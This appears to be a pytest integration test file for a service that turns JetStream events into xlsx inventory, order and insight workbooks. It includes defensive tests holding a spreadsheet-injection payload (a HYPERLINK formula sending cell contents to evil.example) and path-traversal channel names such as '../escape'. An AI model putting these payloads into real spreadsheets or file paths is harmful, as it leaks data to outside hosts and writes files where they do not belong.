"""The sheets service on the real stack: events from JetStream into real xlsx workbooks."""

from __future__ import annotations

import uuid
import zipfile
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Literal

import pytest
from nats.aio.client import Client
from openpyxl import load_workbook

from relay_cli.stack import StackEndpoints
from relay_shared import subjects
from relay_shared.config_store import TenantConfigStore
from relay_shared.events import Event, InsightGenerated
from relay_shared.identifiers import CHANNEL_PATTERN
from relay_shared.storage import ObjectStore
from relay_sheets.app import SheetsApp
from relay_sheets.settings import SheetsSettings
from tests.support.channel_events import offers_merged, order_shipped, put_merged, tenant_config
from tests.support.jetstream import (
    delete_streams,
    nats_client,
    next_event,
    publish,
    wait_consumed,
    wait_for_stream,
)
from tests.support.running import running

pytestmark = pytest.mark.stack

STREAM = f"SHEETS_{uuid.uuid4().hex[:8].upper()}"
T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
T0_TEXT = "2026-03-01T12:00:00Z"
DURABLES = {
    "offers.merged": "sheets-offers-merged",
    "order.shipped": "sheets-order-shipped",
    "insight.generated": "sheets-insight-generated",
}
MERGED_ROWS = ["A-1,10,12.00,Widget,v1,", "B-2,2,5.50,,v1,", "C-3,0,7.00,Gadget,v1,"]
LISTINGS_HEADER = ["sku", "title", "quantity", "price", "status", "listed_date", "last_sold_at"]


@dataclass
class Sheets:
    client: Client
    root: Path

    async def send(self, event: Event) -> None:
        """Publish and wait until the sheets consumer has handled it."""
        seq = await publish(self.client, STREAM, event)
        await wait_consumed(self.client, STREAM, DURABLES[event.subject], seq)

    def cells(self, tenant: str, workbook: str, worksheet: str) -> list[list[Any]]:
        path = self.root / tenant / f"{workbook}.xlsx"
        sheet = load_workbook(path)[worksheet]
        return [list(row) for row in sheet.iter_rows(values_only=True)]

    def channel(self, tenant: str, channel: str, worksheet: str) -> list[list[Any]]:
        return self.cells(tenant, f"{channel}/Inventory – {channel}", worksheet)


@pytest.fixture(scope="module")
async def sheets(
    isolated_bus: StackEndpoints, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Sheets]:
    state = tmp_path_factory.mktemp("sheets-state")
    settings = SheetsSettings.from_env(
        isolated_bus.as_env(), nats_stream=STREAM, state_dir=str(state), max_deliver=2
    )
    async with nats_client(isolated_bus.nats_url) as client:
        try:
            async with running([SheetsApp(settings)]):
                await wait_for_stream(client, STREAM)
                yield Sheets(client, state / "sheets")
        finally:
            await delete_streams(client, STREAM)


async def merge(
    sheets: Sheets, store: ObjectStore, tenant: str, run: str, rows: list[str], at: datetime
) -> None:
    key = await put_merged(store, tenant, run, rows)
    await sheets.send(offers_merged(tenant, run, key, at))


async def start_tenant(sheets: Sheets, store: ObjectStore, tenant: str) -> None:
    await TenantConfigStore(store).save(tenant, 1, tenant_config(tenant))
    await merge(sheets, store, tenant, "run-1", MERGED_ROWS, T0)


async def test_merged_feed_writes_the_merged_workbook_and_channel_listings(
    sheets: Sheets, object_store: ObjectStore, unique_id: str
) -> None:
    tenant = f"t-{unique_id}"

    await start_tenant(sheets, object_store, tenant)

    assert sheets.cells(tenant, "Merged feed", "Merged feed") == [
        ["sku", "quantity_available", "price", "title", "vendor_id", "updated_at"],
        ["A-1", 10, 12.0, "Widget", "v1", None],
        ["B-2", 2, 5.5, None, "v1", None],
        ["C-3", 0, 7.0, "Gadget", "v1", None],
    ]
    assert sheets.channel(tenant, "amazon", "Listings") == [
        LISTINGS_HEADER,
        ["A-1", "Widget", 8, 12.0, "active", T0_TEXT, None],
        ["B-2", None, 0, 5.5, "active", T0_TEXT, None],
        ["C-3", "Gadget", 0, 7.0, "active", T0_TEXT, None],
    ]
    assert sheets.channel(tenant, "ebay", "Listings")[1:] == [
        ["A-1", "Widget", 3, 12.0, "active", T0_TEXT, None],
        ["B-2", None, 1, 5.5, "active", T0_TEXT, None],
        ["C-3", "Gadget", 0, 7.0, "active", T0_TEXT, None],
    ]
    assert sheets.channel(tenant, "ebay", "Orders") == [
        ["order_id", "sku", "quantity", "shipped_at"]
    ]
    assert sheets.channel(tenant, "ebay", "Insights") == [
        ["kind", "sku", "status", "since", "detail"]
    ]
    assert not (sheets.root / tenant / "woot").exists()


def add_merchant_edits(sheets: Sheets, tenant: str) -> None:
    """The merchant adds a notes column right of the managed ones and a row of their own."""
    path = sheets.root / tenant / "amazon" / "Inventory – amazon.xlsx"
    workbook = load_workbook(path)
    listings = workbook["Listings"]
    listings["H1"] = "notes"
    listings["H2"] = "hero product"
    listings["I3"] = 42
    listings.append(["MERCH-1", "my own row", 7, None, "paused", None, None, "keep me"])
    workbook.save(path)


async def test_orders_update_listings_once_and_keep_merchant_edits(
    sheets: Sheets, object_store: ObjectStore, unique_id: str
) -> None:
    tenant = f"t-{unique_id}"
    await start_tenant(sheets, object_store, tenant)
    add_merchant_edits(sheets, tenant)
    shipped = T0 + timedelta(hours=1)
    shipped_text = "2026-03-01T13:00:00Z"
    items = [("A-1", 2), ("Z-9", 1), ("A-1", 1)]

    await sheets.send(order_shipped(tenant, f"e1-{unique_id}", "O-1", "amazon", items, shipped))

    expected_listings = [
        [*LISTINGS_HEADER, "notes", None],
        ["A-1", "Widget", 5, 12.0, "active", T0_TEXT, shipped_text, "hero product", None],
        ["B-2", None, 0, 5.5, "active", T0_TEXT, None, None, 42],
        ["C-3", "Gadget", 0, 7.0, "active", T0_TEXT, None, None, None],
        ["MERCH-1", "my own row", 7, None, "paused", None, None, "keep me", None],
    ]
    expected_orders = [
        ["order_id", "sku", "quantity", "shipped_at"],
        ["O-1", "A-1", 3, shipped_text],
        ["O-1", "Z-9", 1, shipped_text],
    ]
    assert sheets.channel(tenant, "amazon", "Listings") == expected_listings
    assert sheets.channel(tenant, "amazon", "Orders") == expected_orders

    resent = order_shipped(tenant, f"e2-{unique_id}", "O-1", "amazon", items, shipped)
    await sheets.send(resent)

    assert sheets.channel(tenant, "amazon", "Listings") == expected_listings
    assert sheets.channel(tenant, "amazon", "Orders") == expected_orders

    later = T0 + timedelta(days=1)
    await merge(
        sheets,
        object_store,
        tenant,
        "run-2",
        ["A-1,20,13.00,Widget 2,v1,", "D-4,4,1.00,,v1,"],
        later,
    )

    assert sheets.channel(tenant, "amazon", "Listings") == [
        expected_listings[0],
        ["A-1", "Widget 2", 18, 13.0, "active", T0_TEXT, shipped_text, "hero product", None],
        *expected_listings[2:],
        ["D-4", None, 2, 1.0, "active", "2026-03-02T12:00:00Z", None, None, None],
    ]


def insight_event(
    tenant: str, status: Literal["open", "resolved"], since: datetime, number: int, sku: str = "B-2"
) -> InsightGenerated:
    return InsightGenerated(
        event_id=f"insight.generated:{tenant}-{sku}:{number}:{status}",
        occurred_at=since,
        tenant_id=tenant,
        correlation_id="corr",
        insight_id=f"{tenant}-{sku}",
        channel="amazon",
        sku=sku,
        kind="out_of_stock",
        status=status,
        since=since,
        detail={"quantity": 0},
    )


async def test_insights_rows_update_in_place_and_ignore_stale_events(
    sheets: Sheets, object_store: ObjectStore, unique_id: str
) -> None:
    tenant = f"t-{unique_id}"
    later = T0 + timedelta(days=2)

    await sheets.send(insight_event(tenant, "open", T0, 1))
    await sheets.send(insight_event(tenant, "open", T0, 1, sku="C-3"))
    await sheets.send(insight_event(tenant, "resolved", later, 2))
    replayed = insight_event(tenant, "open", T0, 1)
    await sheets.send(replayed.model_copy(update={"event_id": f"{replayed.event_id}:replay"}))

    assert sheets.channel(tenant, "amazon", "Insights") == [
        ["kind", "sku", "status", "since", "detail"],
        ["out_of_stock", "B-2", "resolved", "2026-03-03T12:00:00Z", '{"quantity": 0}'],
        ["out_of_stock", "C-3", "open", T0_TEXT, '{"quantity": 0}'],
    ]


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def test_feed_and_order_cells_that_look_like_formulas_are_written_as_text(
    sheets: Sheets, object_store: ObjectStore, unique_id: str
) -> None:
    tenant = f"t-{unique_id}"
    await TenantConfigStore(object_store).save(tenant, 1, tenant_config(tenant))
    hyperlink_csv = '"' + HYPERLINK.replace('"', '""') + '"'
    rows = [f"A-1,10,12.00,{hyperlink_csv},v1,", "-B2,3,5.50,+1+2,v1,", "C-3,0,7.00,@SUM(A1),v1,"]

    await merge(sheets, object_store, tenant, "run-1", rows, T0)
    order = order_shipped(tenant, f"e1-{unique_id}", "=1+1", "amazon", [("-B2", 1)], T0)
    await sheets.send(order)

    merged = load_workbook(sheets.root / tenant / "Merged feed.xlsx")["Merged feed"]
    assert [[(c.value, c.data_type) for c in row[:4]] for row in merged.iter_rows(min_row=2)] == [
        [("A-1", "s"), (10, "n"), (12.0, "n"), (HYPERLINK, "s")],
        [("-B2", "s"), (3, "n"), (5.5, "n"), ("+1+2", "s")],
        [("C-3", "s"), (0, "n"), (7.0, "n"), ("@SUM(A1)", "s")],
    ]
    assert [c.quotePrefix for c in merged["D"][1:]] == [True, True, True]
    assert sheets.channel(tenant, "amazon", "Listings")[1:] == [
        ["A-1", HYPERLINK, 8, 12.0, "active", T0_TEXT, None],
        ["-B2", "+1+2", 0, 5.5, "active", T0_TEXT, T0_TEXT],
        ["C-3", "@SUM(A1)", 0, 7.0, "active", T0_TEXT, None],
    ]
    assert sheets.channel(tenant, "amazon", "Orders")[1:] == [["=1+1", "-B2", 1, T0_TEXT]]
    for path in (sheets.root / tenant).rglob("*.xlsx"):
        with zipfile.ZipFile(path) as archive:
            parts = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
            assert parts
            assert all(b"<f>" not in archive.read(n) for n in parts), path


@pytest.mark.parametrize("channel", ["../escape", "Amazon", "a b", "amazon/../../x", "x" * 40])
async def test_an_order_for_a_channel_of_the_wrong_shape_is_dead_lettered_unwritten(
    sheets: Sheets, unique_id: str, channel: str
) -> None:
    tenant = f"t-{unique_id}"
    event_id = f"bad-channel-{unique_id}"

    await sheets.send(order_shipped(tenant, event_id, "O-1", channel, [("A-1", 1)], T0))

    dead = await next_event(
        sheets.client,
        subjects.dead_letter_stream(STREAM),
        "dlq.order.shipped",
        where=lambda record: record["event_id"] == event_id,
        timeout=30,
    )
    assert (dead["service"], dead["code"], dead["deliveries"]) == ("sheets", "invalid_channel", 1)
    assert dead["reason"] == (
        f"channel {channel!r} is not a valid channel name"
        f" (it must match {CHANNEL_PATTERN}): no workbook is written for it"
    )
    assert not (sheets.root / tenant).exists()
    assert sorted(p.name for p in sheets.root.iterdir() if not p.name.startswith("t-")) == []
